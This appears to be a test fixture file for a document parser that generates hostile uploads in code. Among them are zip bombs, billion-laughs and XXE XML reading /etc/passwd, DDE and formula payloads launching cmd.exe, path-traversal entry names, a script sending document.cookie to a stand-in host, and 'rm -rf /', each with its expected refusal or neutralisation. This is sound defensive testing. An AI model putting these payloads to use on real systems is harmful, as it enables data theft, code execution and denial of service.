import { deflateRawSync } from 'node:zlib'
import { compoundOf, documentXml, docxOf, paragraph, pdfOf, rawZip, show, zipOf } from '../fixtures.ts'

/**
 * Files made to harm whoever opens them, made in code and never stored. Each says what must become of it: the code of the refusal, or
 * that it is read with the harm left out.
 */
export interface HostileFile {
  readonly what: string
  readonly name: string
  readonly make: () => Uint8Array
  /** The code it is refused with; null: it is read, neutralised. */
  readonly refused: RegExp | null
  /** Of what is read: must stand in the text, must not stand in the text, must be warned of. */
  readonly holds?: string
  readonly without?: RegExp
  readonly warns?: RegExp
  /** How long it may take, where it takes all the time it gets. */
  readonly seconds?: number
}

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text)
const join = (...parts: readonly (Uint8Array | string)[]): Uint8Array =>
  new Uint8Array(Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part) : part))))
const body = '松溪区问题清单：门头牌匾备案要跑三个窗口。'
const plainDocx = (parts: Readonly<Record<string, string | Uint8Array>> = {}) => docxOf(paragraph(body), parts)

const SHEETS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
/** A workbook of one sheet with this inside; `parts` adds or replaces parts. */
export function xlsxOf(sheet: string, parts: Readonly<Record<string, string | Uint8Array>> = {}): Uint8Array {
  const main = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  return zipOf({
    '[Content_Types].xml':
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    '_rels/.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${main}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    'xl/workbook.xml': `<workbook ${SHEETS} xmlns:r="${main}"><sheets><sheet name="台账" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${main}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    'xl/worksheets/sheet1.xml': `<worksheet ${SHEETS}>${sheet}</worksheet>`,
    ...parts,
  })
}
const inline = (cell: string, text: string): string => `<c r="${cell}" t="inlineStr"><is><t>${text}</t></is></c>`
const row = (n: number, ...cells: readonly string[]): string => `<row r="${n}">${cells.join('')}</row>`
const ledger = row(1, inline('A1', '序号'), inline('B1', '问题')) + row(2, inline('A2', '1'), inline('B2', body))

const relationship = (type: string, target: string): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`

/** An archive in an archive in an archive …, the innermost a bomb. */
function nestedZip(depth: number): Uint8Array {
  let inner: Uint8Array = zipOf({ 'bomb.bin': new Uint8Array(20_000_000) })
  for (let n = 0; n < depth; n++) inner = zipOf({ [`level${n}.zip`]: inner })
  return inner
}
/** A PDF part by part, with nothing right but its beginning. */
const brokenPdf = (inside: string): Uint8Array => utf8(`%PDF-1.7\n${inside}\n%%EOF`)
const laughs = (root: string): string =>
  `<!DOCTYPE ${root} [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">${'bcdefghi'
    .split('')
    .map((name, n) => `<!ENTITY ${name} "${`&${'abcdefghi'[n]};`.repeat(10)}">`)
    .join('')}]>`

export const hostileFiles: readonly HostileFile[] = [
  // Archives
  {
    what: 'one part that inflates a thousandfold',
    name: '炸弹.docx',
    make: () => zipOf({ 'word/document.xml': new Uint8Array(64 * 1024 * 1024) }),
    refused: /zip-bomb/,
  },
  {
    what: 'a bomb inside five archives, in the document',
    name: 'a.docx',
    make: () => plainDocx({ 'word/embeddings/a.zip': nestedZip(5) }),
    refused: null,
    holds: body,
  },
  { what: 'a bomb inside five archives, alone', name: 'a.zip', make: () => nestedZip(5), refused: /archive/ },
  { what: 'the same, named a document', name: 'a.docx', make: () => nestedZip(5), refused: /missing-part|archive/ },
  {
    what: 'entries that share the same bytes',
    name: 'a.docx',
    make: () =>
      rawZip([
        { name: 'word/document.xml', content: new Uint8Array(1_000_000) },
        ...Array.from({ length: 50 }, (_, n) => ({ name: `word/${n}.xml`, content: new Uint8Array(0), offset: 0 })),
      ]),
    refused: /zip-bomb/,
  },
  {
    what: 'sixty thousand entries',
    name: 'a.docx',
    make: () =>
      rawZip([
        { name: 'word/document.xml', content: utf8('<a/>') },
        ...Array.from({ length: 60_000 }, (_, n) => ({ name: `word/${n}`, content: new Uint8Array(0), method: 0 })),
      ]),
    refused: /zip-bomb/,
  },
  {
    what: 'a part larger than it declares',
    name: 'a.docx',
    make: () => rawZip([{ name: 'word/document.xml', content: utf8(documentXml(paragraph('字'.repeat(50_000)))), declared: 10 }]),
    refused: /zip-bomb/,
  },
  {
    what: 'a part that declares four gigabytes',
    name: 'a.xlsx',
    make: () => rawZip([{ name: 'xl/workbook.xml', content: utf8('<a/>'), declared: 0xfffffff0 }]),
    refused: /zip-bomb/,
  },
  { what: 'a directory that is cut off', name: 'a.docx', make: () => plainDocx().subarray(0, -60), refused: /damaged/ },
  {
    what: 'a directory that points outside the file',
    name: 'a.docx',
    make: () => rawZip([{ name: 'word/document.xml', content: utf8('<a/>'), offset: 0x7fffffff }]),
    refused: /damaged/,
  },
  {
    what: 'a directory that counts more entries than it has',
    name: 'a.docx',
    make: () => {
      const bytes = Buffer.from(plainDocx())
      bytes.writeUInt16LE(0xffff, bytes.length - 12)
      return new Uint8Array(bytes)
    },
    refused: /damaged/,
  },
  ...['../../../etc/cron.d/x', '..\\..\\windows\\x.dll', '/etc/passwd', 'C:/x.exe', 'word/\0x.xml'].map(
    (path): HostileFile => ({
      what: `a part named ${JSON.stringify(path)}`,
      name: 'a.docx',
      make: () =>
        rawZip([
          { name: 'word/document.xml', content: utf8(documentXml(paragraph(body))) },
          { name: path, content: utf8('x') },
        ]),
      refused: /unsafe-name/,
    }),
  ),
  {
    what: 'the same part twice, with two contents',
    name: 'a.docx',
    make: () =>
      rawZip([
        { name: 'word/document.xml', content: utf8(documentXml(paragraph('甲'))) },
        { name: 'WORD/document.xml', content: utf8(documentXml(paragraph('乙'))) },
      ]),
    refused: /damaged/,
  },
  {
    what: 'a compression method nobody knows',
    name: 'a.docx',
    make: () => rawZip([{ name: 'word/document.xml', content: utf8('<a/>'), method: 97 }]),
    refused: /damaged/,
  },
  {
    what: 'a part that does not inflate',
    name: 'a.docx',
    make: () => {
      const bytes = rawZip([{ name: 'word/document.xml', content: utf8(documentXml(paragraph(body.repeat(50)))) }])
      bytes.fill(0xff, 60, 90)
      return bytes
    },
    refused: /damaged|zip-bomb/,
  },
  // Office
  {
    what: 'macros in a document',
    name: 'a.docm',
    make: () => plainDocx({ 'word/vbaProject.bin': compoundOf(['VBA']) }),
    refused: null,
    holds: body,
    warns: /宏没有运行/,
  },
  {
    what: 'macros in a workbook',
    name: 'a.xlsm',
    make: () => xlsxOf(`<sheetData>${ledger}</sheetData>`, { 'xl/vbaProject.bin': compoundOf(['VBA']) }),
    refused: null,
    holds: body,
    warns: /宏没有运行/,
  },
  {
    what: 'a template from another machine',
    name: 'a.docx',
    make: () =>
      plainDocx({
        'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'http://198.51.100.7/evil.dotm'),
        'word/settings.xml': '<w:settings/>',
      }),
    refused: null,
    holds: body,
    without: /198\.51/,
  },
  {
    what: 'a picture and a frame from another machine',
    name: 'a.docx',
    make: () => plainDocx({ 'word/_rels/document.xml.rels': relationship('image', 'file://198.51.100.7/share/x.png') }),
    refused: null,
    holds: body,
    without: /198\.51/,
  },
  {
    what: 'the document part itself outside the file',
    name: 'a.docx',
    make: () => plainDocx({ '_rels/.rels': relationship('officeDocument', 'http://198.51.100.7/document.xml') }),
    refused: null,
    holds: body,
  },
  {
    what: 'a link to a workbook elsewhere',
    name: 'a.xlsx',
    make: () =>
      xlsxOf(`<sheetData>${ledger}</sheetData>`, {
        'xl/externalLinks/_rels/externalLink1.xml.rels': relationship('externalLinkPath', '\\\\198.51.100.7\\x.xlsx'),
      }),
    refused: null,
    holds: body,
    without: /198\.51/,
  },
  {
    what: 'an embedded program (OLE)',
    name: 'a.docx',
    make: () => plainDocx({ 'word/embeddings/oleObject1.bin': compoundOf(['\u0001Ole10Native'], utf8('MZ calc.exe')) }),
    refused: null,
    holds: body,
    without: /calc/,
  },
  {
    what: 'a field that calls a program (DDE)',
    name: 'a.docx',
    make: () =>
      docxOf(
        `${paragraph(body)}<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      ),
    refused: null,
    holds: body,
    without: /cmd\.exe/,
  },
  {
    what: 'a formula cell that calls a program',
    name: 'a.xlsx',
    make: () =>
      xlsxOf(`<sheetData>${ledger}${row(3, '<c r="A3"><f>cmd|\'/c calc\'!A0</f><v>0</v></c>', inline('B3', '第二个问题'))}</sheetData>`),
    refused: null,
    holds: '第二个问题',
    without: /calc/,
  },
  {
    what: 'text cells that begin like formulas',
    name: 'a.csv',
    make: () => utf8(`序号,问题\n1,"=HYPERLINK(""http://198.51.100.7"",""点"")"\n2,@SUM(A1)\n3,${body}\n`),
    refused: null,
    holds: body,
  },
  {
    what: 'an Office file under a password',
    name: 'a.docx',
    make: () => compoundOf(['EncryptionInfo', 'EncryptedPackage']),
    refused: /encrypted/,
  },
  {
    what: 'an archive under a password',
    name: 'a.docx',
    make: () => rawZip([{ name: 'word/document.xml', content: utf8('x'), flags: 1 }]),
    refused: /encrypted/,
  },
  {
    what: 'a sheet that claims a million rows by sixteen thousand columns',
    name: 'a.xlsx',
    make: () => xlsxOf(`<dimension ref="A1:XFD1048576"/><sheetData>${ledger}</sheetData>`),
    refused: null,
    holds: body,
  },
  {
    what: 'two cells at the far corners of a sheet',
    name: 'a.xlsx',
    make: () => xlsxOf(`<sheetData>${ledger}${row(1_048_576, inline('XFD1048576', '远'))}</sheetData>`),
    refused: /too-many-cells/,
  },
  {
    what: 'a million merged cells',
    name: 'a.xlsx',
    make: () => xlsxOf(`<sheetData>${ledger}</sheetData><mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(1_000_000)}</mergeCells>`),
    refused: /zip-bomb|too-much-memory|too-slow/,
  },
  {
    what: 'a hundred thousand merged cells over one another',
    name: 'a.xlsx',
    make: () =>
      xlsxOf(
        `<sheetData>${ledger}</sheetData><mergeCells>${Array.from({ length: 100_000 }, (_, n) => `<mergeCell ref="A1:${'ABCDEFGHIJ'[n % 10]}${1 + (n % 1000)}"/>`).join('')}</mergeCells>`,
      ),
    refused: null,
    holds: '序号',
  },
  {
    what: 'one cell of four million characters',
    name: 'a.xlsx',
    make: () => xlsxOf(`<sheetData>${row(1, inline('A1', '长'.repeat(4_000_000)))}</sheetData>`),
    refused: /too-much-text|zip-bomb/,
  },
  {
    what: 'shared strings without end',
    name: 'a.xlsx',
    make: () =>
      xlsxOf(
        `<sheetData>${row(1, '<c r="A1" t="s"><v>4294967295</v></c>', '<c r="B1" t="s"><v>-1</v></c>')}${ledger.replaceAll('r="1"', 'r="4"')}</sheetData>`,
        {
          'xl/sharedStrings.xml': `<sst ${SHEETS} count="4294967295" uniqueCount="4294967295">${'<si><t>x</t></si>'.repeat(200_000)}</sst>`,
        },
      ),
    refused: null,
    holds: body,
  },
  {
    what: 'a table whose cells span millions',
    name: 'a.docx',
    make: () => docxOf(`<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="99999999"/></w:tcPr>${paragraph(body)}</w:tc></w:tr></w:tbl>`),
    refused: null,
    holds: body,
  },
  {
    what: 'automatic numbers counted to the last integer',
    name: 'a.docx',
    make: () => docxOf(paragraph(body, '<w:pPr><w:numPr><w:ilvl w:val="99999999"/><w:numId w:val="2147483647"/></w:numPr></w:pPr>')),
    refused: null,
    holds: body,
  },
  // XML
  {
    what: 'a billion laughs',
    name: 'a.docx',
    make: () => docxOf('', { 'word/document.xml': laughs('w:document') + documentXml(paragraph('&i;')) }),
    refused: /unsafe-xml/,
  },
  {
    what: 'a billion laughs in a workbook',
    name: 'a.xlsx',
    make: () => xlsxOf('', { 'xl/workbook.xml': `${laughs('workbook')}<workbook>&i;</workbook>` }),
    refused: /unsafe-xml/,
  },
  {
    what: 'a file of the server as an entity',
    name: 'a.docx',
    make: () =>
      docxOf('', { 'word/document.xml': `<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>${documentXml(paragraph('&x;'))}` }),
    refused: /unsafe-xml/,
  },
  {
    what: 'entities of another machine by parameter',
    name: 'a.xlsx',
    make: () => xlsxOf('', { 'xl/workbook.xml': '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://198.51.100.7/x.dtd">%p;]><workbook/>' }),
    refused: /unsafe-xml/,
  },
  {
    what: 'elements five thousand deep',
    name: 'a.docx',
    make: () => docxOf('<w:sdt><w:sdtContent>'.repeat(5000) + '</w:sdtContent></w:sdt>'.repeat(5000)),
    refused: /too-deep/,
  },
  {
    what: 'a hundred thousand attributes',
    name: 'a.docx',
    make: () => docxOf(`<w:p ${Array.from({ length: 100_000 }, (_, n) => `a${n}="x"`).join(' ')}/>${paragraph(body)}`),
    refused: null,
    holds: body,
  },
  {
    what: 'XML that never ends',
    name: 'a.docx',
    make: () => docxOf('', { 'word/document.xml': documentXml(paragraph(body)).slice(0, -40) }),
    refused: /damaged/,
  },
  // Pages
  {
    what: 'a page with scripts, frames and forms',
    name: 'a.html',
    make: () =>
      utf8(
        `<!doctype html><title>x</title><script>fetch('http://198.51.100.7/'+document.cookie)</script><iframe src="http://198.51.100.7"></iframe><form action="http://198.51.100.7"><input value="secret"></form><p onclick="alert(1)">${body}</p><p style="display:none">看不见的话</p>`,
      ),
    refused: null,
    holds: body,
    without: /198\.51|fetch|alert|secret|看不见/,
  },
  {
    what: 'a picture in words (SVG) with a script',
    name: 'a.svg',
    make: () => utf8('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script><text>x</text></svg>'),
    refused: null,
    holds: 'svg',
  },
  {
    what: 'a page twenty thousand elements deep',
    name: 'a.html',
    make: () => utf8(`<html>${'<div>'.repeat(20_000)}深`),
    refused: /too-deep/,
  },
  {
    what: 'a table in a table in a table, four thousand times',
    name: 'a.html',
    make: () => utf8(`<!doctype html>${'<table><tr><td>'.repeat(4000)}${body}`),
    refused: /too-deep|too-slow/,
  },
  {
    what: 'cells that claim to span a billion columns',
    name: 'a.html',
    make: () =>
      utf8(
        `<!doctype html><table><tr><td colspan="1000000000" rowspan="1000000000">${body}</td><td>乙</td></tr><tr><td>丙</td><td>丁</td></tr></table>`,
      ),
    refused: null,
    holds: body,
  },
  {
    what: 'an entity bomb in a page',
    name: 'a.html',
    make: () => utf8(`${laughs('html')}<html><p>${body}&i;</p></html>`),
    refused: null,
    holds: body,
    without: /哈哈哈哈哈哈哈哈哈哈哈/,
  },
  // Text
  { what: 'bytes of zero in a text', name: 'a.txt', make: () => utf8('问题清单\0第一条'), refused: /binary/ },
  {
    what: 'two marks of order and mixed encodings',
    name: 'a.txt',
    make: () => join(new Uint8Array([0xef, 0xbb, 0xbf, 0xff, 0xfe]), Buffer.from(body, 'utf16le')),
    refused: /binary|encoding/,
  },
  {
    what: 'a text in UTF-7, where < is +ADw-',
    name: 'a.html',
    make: () => utf8(`<!doctype html><meta charset="utf-7"><p>${body}+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>`),
    refused: null,
    holds: body,
    without: /<script/,
  },
  {
    what: 'a text whose order is turned around',
    name: '通知\u202excod.exe',
    make: () => utf8(`${body}\u202e反过来\u202c`),
    refused: null,
    holds: body,
    without: /\u202e/,
  },
  {
    what: 'lists in lists in a text, a hundred thousand deep',
    name: 'a.json',
    make: () => utf8(`${'['.repeat(100_000)}${body}${']'.repeat(100_000)}`),
    refused: null,
    holds: body,
  },
  {
    what: 'one line of a million opening brackets',
    name: 'a.txt',
    make: () => utf8(`${body}${'（'.repeat(600_000)}`),
    refused: null,
    holds: body,
  },
  { what: 'a hundred megabytes', name: 'a.txt', make: () => new Uint8Array(100 * 1024 * 1024).fill(0x41), refused: /too-large/ },
  // PDF
  {
    what: 'scripts, launches and attachments in a PDF',
    name: 'a.pdf',
    make: () =>
      pdfOf([show(60, 700, body)], {
        objects: ['<</S/JavaScript/JS(app.launchURL("http://198.51.100.7"))>>', '<</S/Launch/F(cmd.exe)>>'],
        page: '/AA<</O 8 0 R/C 9 0 R>>',
      }),
    refused: null,
    holds: '门头牌匾',
    without: /198\.51|cmd\.exe/,
  },
  {
    what: 'a PDF that claims a billion pages',
    name: 'a.pdf',
    make: () =>
      brokenPdf(
        '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1000000000>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R>>endobj\ntrailer<</Root 1 0 R>>',
      ),
    refused: /too-many-pages|damaged|scan/,
  },
  {
    what: 'pages that are their own children',
    name: 'a.pdf',
    make: () =>
      brokenPdf(
        '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>endobj\ntrailer<</Root 1 0 R>>',
      ),
    refused: /damaged|scan|too-slow|too-many-pages|no-text/,
  },
  {
    what: 'a PDF whose table of places points nowhere',
    name: 'a.pdf',
    make: () =>
      utf8(
        Buffer.from(pdfOf([show(60, 700, '甲')]))
          .toString('latin1')
          .replace(/startxref\n\d+/, 'startxref\n99999999'),
      ),
    refused: null,
    holds: '甲',
  },
  {
    what: 'a PDF under a password',
    name: 'a.pdf',
    make: () =>
      pdfOf([show(60, 700, '甲')], {
        trailer: `/ID[<00><00>]/Encrypt<</Filter/Standard/V 1/R 2/O<${'a1'.repeat(32)}>/U<${'b2'.repeat(32)}>/P -4>>`,
      }),
    refused: /encrypted|damaged/,
  },
  { what: 'a PDF of pictures alone', name: 'a.pdf', make: () => pdfOf(['q 595 0 0 842 0 0 cm /Im1 Do Q', 'q Q']), refused: /scan/ },
  {
    what: 'a PDF stream that inflates without end',
    name: 'a.pdf',
    make: () => pdfOf([Buffer.alloc(300 * 1024 * 1024, ' ')], { deflated: true }),
    refused: /too-much-memory|too-slow|scan/,
  },
  {
    what: 'drawing states saved two hundred thousand times',
    name: 'a.pdf',
    make: () => pdfOf([`${'q '.repeat(200_000)}${show(60, 700, body)}`]),
    refused: /too-slow/,
    seconds: 3,
  },
  // Two things at once, and things under another name
  {
    what: 'a PDF that is an archive, too',
    name: 'a.pdf',
    make: () => join(pdfOf([show(60, 700, body)]), zipOf({ 'word/document.xml': documentXml(paragraph('另一份')) })),
    refused: null,
    holds: '门头牌匾',
    without: /另一份/,
  },
  {
    what: 'a picture that is a page, too',
    name: 'a.html',
    make: () => join('GIF89a/*', '<script>alert(1)</script>', '*/=1;'),
    refused: /image/,
  },
  { what: 'a program named like a notice', name: '通知.docx', make: () => join('MZ\x90\0', new Uint8Array(4096)), refused: /executable/ },
  { what: 'a script for the shell named like a list', name: '清单.csv', make: () => utf8('#!/bin/sh\nrm -rf /\n'), refused: /executable/ },
  {
    what: 'an Android program named like a workbook',
    name: 'a.xlsx',
    make: () => zipOf({ 'AndroidManifest.xml': 'x', 'classes.dex': 'dex\n035\0' }),
    refused: /executable/,
  },
  {
    what: 'a PDF named like a document',
    name: '清单.docx',
    make: () => pdfOf([show(60, 700, body)]),
    refused: null,
    holds: '门头牌匾',
    warns: /已按内容读取/,
  },
  {
    what: 'a stream packed twice',
    name: 'a.gz',
    make: () => join(new Uint8Array([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), deflateRawSync(new Uint8Array(10_000_000))),
    refused: /archive/,
  },
  { what: 'nothing at all', name: 'a.docx', make: () => new Uint8Array(0), refused: /empty/ },
]
